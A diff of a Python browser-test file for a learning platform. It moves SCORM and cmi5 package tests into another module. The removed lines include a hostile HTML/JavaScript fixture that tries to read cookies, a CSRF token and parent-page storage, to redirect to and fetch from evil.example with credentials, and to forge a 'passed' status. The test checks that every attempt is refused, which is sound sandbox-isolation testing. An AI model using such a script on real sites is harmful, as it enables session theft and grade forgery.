@@ -3,21 +3,15 @@
 A package that means harm finds nothing of the site.
 """
 
-import json
-import time
-
 import pytest
 from playwright.sync_api import expect
 
-from content.models import LaunchStatement, Package, Page, Tick, UnitDocument, UnitState
+from content.models import Page, Tick
 from content.services import (
     document_create,
     link_create,
-    package_create,
     page_embeddable,
     page_save,
-    unit_open,
-    unit_report,
     video_create,
 )
 from courses.services import PlannedActivity, PlannedBlock, course_publish, enrolment_create, run_open
@@ -28,11 +22,17 @@ from ecosystem.setting_tree import Own
 from lti.practice import talk
 from lti.practice.tool import registration
 from lti.services import link_make, tool_save
-from records.models import Statement
 from tests.content.making import CAPTIONS, PDF, mp4, upload
 from tests.content.test_writing import picture
-from tests.content.zips import manifest, sample, zipped
 from tests.live.browsing import Visitor, chromium
+from tests.live.packages import (
+    a_package_that_means_harm_finds_nothing,
+    cmi5_to_the_end_with_bookmark_and_score,
+    scorm_12_with_many_parts,
+    scorm_2004_to_the_end_with_bookmark_and_score,
+    verbs,
+    wait,
+)
 from tests.live.writing import pages_are_written_as_they_look
 
 pytestmark = [pytest.mark.live, pytest.mark.xdist_group("packages"), pytest.mark.usefixtures("own_database")]
@@ -54,43 +54,6 @@ def visitor(port, env, member, browser_of):
         found.person = person
         yield found
         found.close()
-
-
-def brought_in(env, title: str, data: bytes) -> None:
-    with open_scope(environment_id=env.pk):
-        package_create(title=title, upload=upload("x.zip", data), creators=["Ada"])
-
-
-def wait(check, seconds: float = 20) -> None:
-    end = time.monotonic() + seconds
-    while not check():
-        assert time.monotonic() < end, "it did not happen"
-        time.sleep(0.2)
-
-
-def state(env, slug: str, position: int = 0) -> UnitState | None:
-    with open_scope(environment_id=env.pk):
-        rows = UnitState.objects.filter(element__slug=slug).order_by("pk")
-        return rows[position : position + 1].first()
-
-
-def verbs(env, slug: str) -> set[str]:
-    with open_scope(environment_id=env.pk):
-        return set(Statement.objects.filter(element__slug=slug).values_list("verb", flat=True))
-
-
-def inside(visitor, name: str):
-    """The frame of the package whose address holds ``name``, once it is there."""
-    found: list = []
-
-    def look() -> bool:
-        found[:] = [frame for frame in visitor.page.frames if name in frame.url]
-        visitor.page.wait_for_timeout(50)
-        return bool(found)
-
-    wait(look)
-    found[0].wait_for_load_state("load")
-    return found[0]
 
 
 def signed_in(browser, base: str, person, browser_of, name: str) -> Visitor:
@@ -185,152 +148,6 @@ def help_is_found_ticked_and_kept(env, visitor) -> None:
 def ticks(env) -> int:
     with open_scope(environment_id=env.pk):
         return Tick.objects.count()
-
-
-def scorm_2004_to_the_end_with_bookmark_and_score(env, visitor):
-    brought_in(env, "Golf", sample("golf-scorm2004.zip"))
-    asked: list[str] = []
-    visitor.page.on("dialog", lambda dialog: (asked.append(dialog.message), dialog.accept()))
-    visitor.go("/packages/golf/").look("1-begin", shoot_desktop=True)
-    visitor.press("Begin")
-    course = inside(visitor, "launchpage.html")
-    inside(visitor, "Playing/Playing.html")
-    visitor.look("2-playing", shoot_desktop=True)
-    for _step in range(3):
-        course.click("#butNext")
-    inside(visitor, "Playing/OtherScoring.html")
-    visitor.page.click("[data-leave]")
-    visitor.page.wait_for_url("**/packages/golf/")
-    assert state(env, "golf").cmi["location"] == "3"
-    visitor.look("3-begun").press("Go on")
-    course = inside(visitor, "launchpage.html")
-    inside(visitor, "Playing/OtherScoring.html")
-    assert "resume" in asked[0], "the bookmark was not given back"
-    for _step in range(11):
-        course.click("#butNext")
-    test = inside(visitor, "assessmenttemplate.html")
-    # Right answers are told by the class of their boxes; of the three kinds, each is answered as a learner would.
-    test.evaluate(
-        """() => { for (const box of document.querySelectorAll('.correctAnswer')) {
-            const field = box.querySelector('input');
-            if (field.type === 'radio') field.click(); else field.value = box.textContent.match(/\\((.*)\\)/)[1];
-        } }"""
-    )
-    test.click("input[type=button]")
-    wait(lambda: (row := state(env, "golf")) is not None and row.status == "passed")
-    assert state(env, "golf").score == 1
-    course.click("#butExit")
-    visitor.page.wait_for_url("**/packages/golf/")
-    visitor.look("4-passed", shoot_desktop=True)
-    assert {"launched", "passed", "completed"} <= verbs(env, "golf")
-
-
-def scorm_12_with_many_parts(env, visitor):
-    """The first ones and the last are played; those between, which are alike, are reported as a player reports them."""
-    brought_in(env, "Parts", sample("golf-scorm12.zip"))
-    for position in range(1, 4):
-        a_part_is_played(env, visitor, position)
-    with open_scope(environment_id=env.pk, person_id=visitor.person.person_id):
-        package = Package.objects.get(element__slug="parts")
-        for unit in package.units.filter(position__range=(4, 17)).order_by("position"):
-            unit_open(package=package, unit=unit)
-            unit_report(package=package, unit=unit, cmi={"core": {"lesson_status": "completed"}}, sequence=1)
-    assert "completed" not in verbs(env, "parts")
-    a_part_is_played(env, visitor, 18)
-    visitor.look("5-parts", shoot_desktop=True)
-    assert "18 of 18" in visitor.text()
-    assert "completed" in verbs(env, "parts")
-
-
-def a_part_is_played(env, visitor, position: int) -> None:
-    visitor.go(f"/packages/parts/{position}/")
-    inside(visitor, "/files/")
-    visitor.page.wait_for_timeout(150)
-    visitor.page.click("[data-leave]")
-    visitor.page.wait_for_url("**/packages/parts/")
-    wait(lambda: (row := state(env, "parts", position - 1)) is not None and row.status == "completed")
-
-
-def cmi5_to_the_end_with_bookmark_and_score(env, visitor):
-    brought_in(env, "Geology", sample("geology-cmi5.zip"))
-    visitor.page.on("dialog", lambda dialog: dialog.accept())
-    visitor.go("/packages/geology/1/")
-    course = inside(visitor, "/files/index.html")
-    course.wait_for_function("course.currentPageIdx === 0 && document.querySelector('#page1 h1, #page1')")
-    wait(lambda: "initialized" in cmi5_verbs(env))
-    for step in range(3):  # one after the other: the course does not wait for its last bookmark to arrive
-        if step:
-            course.evaluate("course.nextPage()")
-        page = course.evaluate("course.pageList[course.currentPageIdx]")
-        wait(lambda page=page: kept(env) == page)
-    visitor.look("6-cmi5")
-    visitor.page.click("[data-leave]")
-    visitor.page.wait_for_url("**/packages/geology/")
-    visitor.go("/packages/geology/1/")
-    course = inside(visitor, "/files/index.html")
-    wait(lambda: cmi5_verbs(env).count("initialized") == 2)
-    course.click("#bookmark-overlay .resume-button")
-    course.wait_for_function("course.currentPageIdx === 2")  # the bookmark was given back
-    for _step in range(5):
-        course.evaluate("course.nextPage()")
-    course.evaluate("course.autopass()")
-    course.evaluate("course.submitAnswers()")
-    wait(lambda: {"passed", "completed"} <= verbs(env, "geology"))
-    assert state(env, "geology").score == 1
-    course.evaluate("course.exit()")
-    visitor.page.wait_for_url("**/packages/geology/")
-    assert "100%" in visitor.text()
-    assert "terminated" in cmi5_verbs(env)
-
-
-def cmi5_verbs(env) -> list[str]:
-    with open_scope(environment_id=env.pk):
-        return [verb.rsplit("/", 1)[-1] for verb in LaunchStatement.objects.values_list("verb", flat=True)]
-
-
-def kept(env) -> str | None:
-    """The page of the bookmark."""
-    found = bookmark(env)
-    return json.loads(found.body)["bookmark"] if found else None
-
-
-def bookmark(env) -> UnitDocument | None:
-    with open_scope(environment_id=env.pk):
-        return UnitDocument.objects.exclude(key="LMS.LaunchData").first()
-
-
-EVIL = b"""<!doctype html><title>evil</title><script>
-const found = {};
-const attempt = (name, act) => { try { found[name] = String(act()); } catch (error) { found[name] = 'refused: ' + error.name; } };
-attempt('cookies', () => document.cookie);
-attempt('document of the site', () => top.document.title);
-attempt('store of the site', () => top.localStorage.length);
-attempt('token', () => top.document.querySelector('[name=csrfmiddlewaretoken]').value);
-attempt('address', () => top.location.href);
-attempt('leave', () => { top.location = 'https://evil.example/'; return 'went'; });
-(async () => {
-  for (const [name, path] of [['site', document.body.dataset.site + '/me/profile/'], ['elsewhere', 'https://evil.example/']]) {
-    try { found[name] = String((await fetch(path, {credentials: 'include'})).status); } catch (error) { found[name] = 'refused: ' + error.name; }
-  }
-  window.found = found;
-})();
-for (const origin of ['*']) top.postMessage({kind: 'state', cmi: {core: {lesson_status: 'passed'}}}, origin);
-</script>"""
-
-
-def a_package_that_means_harm_finds_nothing(env, visitor):
-    page = EVIL.replace(b"<script>", b"<body data-site='%s'><script>" % visitor.base.encode(), 1)
-    brought_in(env, "Evil", zipped({"imsmanifest.xml": manifest("index.html"), "index.html": page}))
-    visitor.go("/packages/evil/1/")
-    course = inside(visitor, "/files/index.html")
-    course.wait_for_function("window.found")
-    found = course.evaluate("window.found")
-    assert found.pop("cookies") == ""
-    assert {name: words for name, words in found.items() if not words.startswith("refused")} == {}
-    assert visitor.page.url.endswith("/packages/evil/1/")
-    visitor.page.wait_for_timeout(500)
-    # Only the frame of the page itself is heard, not a frame inside it.
-    assert state(env, "evil").status == "begun"
 
 
 def a_video_goes_on_where_one_was_and_a_pdf_has_its_frame(env, visitor):
